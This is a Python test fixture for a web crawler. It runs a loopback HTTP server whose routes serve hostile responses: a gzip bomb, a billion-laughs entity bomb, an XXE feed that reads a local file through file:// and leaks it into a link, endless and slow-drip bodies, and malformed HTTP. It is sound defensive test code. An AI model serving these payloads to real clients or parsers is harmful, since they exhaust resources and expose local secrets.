"""The hostile web: loopback HTTP servers whose pages attack the crawler.

`HostileServer` is a raw-socket server on 127.0.0.1 (a free port) that answers each path
with a route: a function that writes whatever bytes it likes to the socket — a well-formed
page, a gzip bomb, a body that never ends, a server that drips one byte a second, a
response that is not HTTP. Every request it receives is recorded (`hits`), so a test can
say what the crawler did and did not fetch. The attacks are built by the functions below;
`hostile_routes()` is the set the story in tests/hostile/conftest.py crawls.
"""

from __future__ import annotations

import socket
import socketserver
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

# A story's pages must hold its required term to be kept.
TERM = "harbor"


@dataclass(frozen=True)
class Hit:
    """One request the server received: method, target (path and query) and headers
    (names lower-cased)."""

    method: str
    target: str
    headers: dict[str, str]


class Exchange:
    """One request being answered: what was asked, and the socket to answer on."""

    def __init__(self, server: HostileServer, sock: socket.socket, hit: Hit) -> None:
        self.server, self.sock, self.hit = server, sock, hit

    @property
    def stopping(self) -> bool:
        return self.server.stopping.is_set()

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def respond(self, body: bytes, content_type: str = "text/html; charset=utf-8",
                status: str = "200 OK", headers: tuple[tuple[str, str], ...] = ()) -> None:
        """A complete response with Content-Length."""
        lines = [f"HTTP/1.1 {status}", f"Content-Type: {content_type}",
                 f"Content-Length: {len(body)}", *(f"{k}: {v}" for k, v in headers),
                 "Connection: close"]
        self.send(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body)


Route = Callable[[Exchange], None]


@dataclass
class HostileServer:
    """A loopback HTTP server answering each path with its route (the route of the target
    with its query, else of the path, else the first "PREFIX*" route the path starts with);
    404 for others. Use as a context manager."""

    routes: dict[str, Route] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.hits: list[Hit] = []
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        server = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                server._handle(self.request)

        class TCP(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True

        self._tcp = TCP(("127.0.0.1", 0), Handler)
        self.port = int(self._tcp.server_address[1])
        self.base = f"http://127.0.0.1:{self.port}"

    def url(self, path: str) -> str:
        return self.base + path

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    def requested(self, path: str) -> int:
        """How many requests asked for `path` (query included if `path` has one)."""
        with self._lock:
            return sum(1 for h in self.hits if h.target == path
                       or ("?" not in path and h.target.split("?", 1)[0] == path))

    def requested_under(self, prefix: str) -> int:
        with self._lock:
            return sum(1 for h in self.hits if h.target.startswith(prefix))

    def _handle(self, sock: socket.socket) -> None:
        data = b""
        try:
            sock.settimeout(10)
            while b"\r\n\r\n" not in data:
                chunk = sock.recv(65536)
                if not chunk:
                    return
                data += chunk
            head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")
            method, target = head[0].split(" ")[:2]
            headers = {}
            for line in head[1:]:
                name, _, value = line.partition(":")
                headers[name.strip().lower()] = value.strip()
            hit = Hit(method, target, headers)
            with self._lock:
                self.hits.append(hit)
            path = target.split("?", 1)[0]
            route = self.routes.get(target) or self.routes.get(path) or next(
                (r for p, r in self.routes.items() if p.endswith("*") and path.startswith(p[:-1])),
                None)
            ex = Exchange(self, sock, hit)
            if route is None:
                ex.respond(b"not here", "text/plain", "404 Not Found")
            else:
                route(ex)
        except OSError:
            pass  # the crawler hung up: what most attacks end with
        finally:
            sock.close()

    def __enter__(self) -> HostileServer:
        self._thread = threading.Thread(target=self._tcp.serve_forever, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stopping.set()
        self._tcp.shutdown()
        self._tcp.server_close()


# ---------------------------------------------------------------------- pages
def article_html(n: int, title: str | None = None) -> bytes:
    """A news article about the harbor (the story's term), different for each `n`."""
    paragraphs = "".join(
        f"<p>Paragraph {i} of report {n}: dock workers at the {TERM} walked out on day {n} "
        f"after talks over shift number {i * n + 7} broke down late on Tuesday evening.</p>"
        for i in range(1, 7))
    return (f"<!doctype html><html><head><title>{title or f'Harbor report {n}'}</title></head>"
            f"<body><article><h1>{title or f'Harbor report {n}'}</h1>{paragraphs}</article>"
            "</body></html>").encode()


def page(body: bytes, content_type: str = "text/html; charset=utf-8", status: str = "200 OK",
         headers: tuple[tuple[str, str], ...] = ()) -> Route:
    def route(ex: Exchange) -> None:
        ex.respond(body, content_type, status, headers)
    return route


def redirect(location: str, status: str = "302 Found") -> Route:
    return page(b"", "text/plain", status, (("Location", location),))


def rss(links: list[str], title: str = "Harbor news") -> bytes:
    items = "".join(f"<item><title>{TERM} {i}</title><link>{link}</link></item>"
                    for i, link in enumerate(links))
    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
            f"<title>{title}</title>{items}</channel></rss>").encode()


def sitemap_index(locs: list[str]) -> bytes:
    entries = "".join(f"<sitemap><loc>{loc}</loc></sitemap>" for loc in locs)
    return ('<?xml version="1.0" encoding="UTF-8"?><sitemapindex '
            f'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</sitemapindex>').encode()


def urlset(locs: list[str]) -> bytes:
    entries = "".join(f"<url><loc>{loc}</loc></url>" for loc in locs)
    return ('<?xml version="1.0" encoding="UTF-8"?><urlset '
            f'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>').encode()


# ---------------------------------------------------------------------- attacks
def gzip_bomb(inflated: int, member: int = 16 << 20) -> bytes:
    """A gzip body (Content-Encoding: gzip) that inflates to `inflated` bytes: one member
    of `member` zero bytes, repeated (a multi-member stream gunzips to the concatenation).
    1 GiB inflates from about 1 MB. With `member` = `inflated`, one member (slower to make:
    3 s for 1 GiB; some readers, warcio's, stop after a stream's first member)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: a gzip member
    block = b"\0" * (1 << 20)
    one = b"".join(comp.compress(block) for _ in range(member >> 20)) + comp.flush()
    return one * (inflated // member)


def bomb(inflated: int) -> Route:
    body = gzip_bomb(inflated)

    def route(ex: Exchange) -> None:
        ex.respond(body, headers=(("Content-Encoding", "gzip"),))
    return route


def endless_chunked(chunk: bytes = b"<p>" + b"harbor " * 1000 + b"</p>") -> Route:
    """A chunked HTML body that never ends (until the client hangs up)."""
    def route(ex: Exchange) -> None:
        ex.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"c\r\n<html><body>\r\n")
        framed = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
        while not ex.stopping:
            ex.send(framed)
    return route


def endless_xml(entry: Callable[[int], bytes], head: bytes) -> Route:
    """An XML document (a sitemap or a feed) whose entries never end."""
    def route(ex: Exchange) -> None:
        ex.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\nConnection: close\r\n\r\n" + head)
        n = 0
        while not ex.stopping:
            ex.send(b"".join(entry(i) for i in range(n, n + 1000)))
            n += 1000
    return route


def drip(interval: float = 1.0) -> Route:
    """A slow server: the head, then one byte of body every `interval` seconds, for ever."""
    def route(ex: Exchange) -> None:
        ex.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100000\r\n\r\n")
        while not ex.stopping:
            ex.send(b"<")
            time.sleep(interval)
    return route


def raw(data: bytes) -> Route:
    """Exactly these bytes, then the connection is closed (for answers that are not HTTP)."""
    def route(ex: Exchange) -> None:
        ex.send(data)
    return route


INVALID_HTTP: dict[str, bytes] = {
    # not HTTP at all
    "/invalid/garbage": b"\x00\xff\x13SSH-2.0-OpenSSH_9.6 hello\r\n\r\n",
    # a status line without a status code
    "/invalid/status": b"HTTP/1.1 OK\r\nContent-Length: 5\r\n\r\nhello",
    # a header line without a colon, and a negative length
    "/invalid/header": b"HTTP/1.1 200 OK\r\nthis is no header\r\nContent-Length: -12\r\n\r\nhello",
    # two different lengths
    "/invalid/lengths": (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n"
                         b"Content-Length: 50\r\n\r\nhello"),
    # chunk sizes that are not hexadecimal
    "/invalid/chunks": (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked"
                        b"\r\n\r\nzz\r\nhello\r\n0\r\n\r\n"),
}


def element_bomb(size: int) -> bytes:
    """An HTML page of `size` bytes of tiny elements (20 MB: 2.6 million of them, which gzip
    to about 20 KB), naming a canonical URL so that a spider looks into it."""
    head = b'<html><head><link rel="canonical" href="/elements"><title>harbor</title></head><body>'
    return head + b"<i>a</i>" * ((size - len(head) - 14) // 8) + b"</body></html>"


def billion_laughs(base_url: str) -> bytes:
    """An RSS feed whose second item's title is entity lol9: 10^9 "lol"s (3 GB) if
    expanded. Its first item links to a real article; its second to another."""
    ents = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
    return ('<?xml version="1.0"?><!DOCTYPE rss [' + "".join(ents) + ']><rss version="2.0"><channel>'
            f"<title>laughs</title><item><title>harbor</title><link>{base_url}/article/laughs</link>"
            f"</item><item><title>&lol9;</title><link>{base_url}/article/after-laughs</link>"
            "</item></channel></rss>").encode()


def xxe_feed(secret_path: str, probe_url: str, base_url: str) -> bytes:
    """An RSS feed with external entities: a local file (its content would become a link)
    and a URL (reading it would be a request the server sees)."""
    return ('<?xml version="1.0"?><!DOCTYPE rss ['
            f'<!ENTITY secret SYSTEM "file://{secret_path}">'
            f'<!ENTITY probe SYSTEM "{probe_url}">'
            ']><rss version="2.0"><channel><title>xxe</title>'
            f"<item><title>a</title><link>{base_url}/leak/&secret;</link></item>"
            f"<item><title>b</title><link>{base_url}/article/xxe?p=&probe;</link></item>"
            "</channel></rss>").encode()


def many_links(count: int) -> bytes:
    """A page with `count` links to distinct article-like URLs on its own host."""
    links = "".join(f'<a href="/many/harbor-report-number-{i}">report {i}</a>' for i in range(count))
    return f"<html><head><title>Harbor index</title></head><body>{links}</body></html>".encode()


def deep_html(depth: int) -> bytes:
    """An article page whose body nests `depth` elements deep."""
    return (b"<html><head><title>Harbor deep</title></head><body><article><p>dock workers at the "
            b"harbor walked out</p>" + b"<div>" * depth + b"harbor" + b"</div>" * depth
            + b"</article></body></html>")

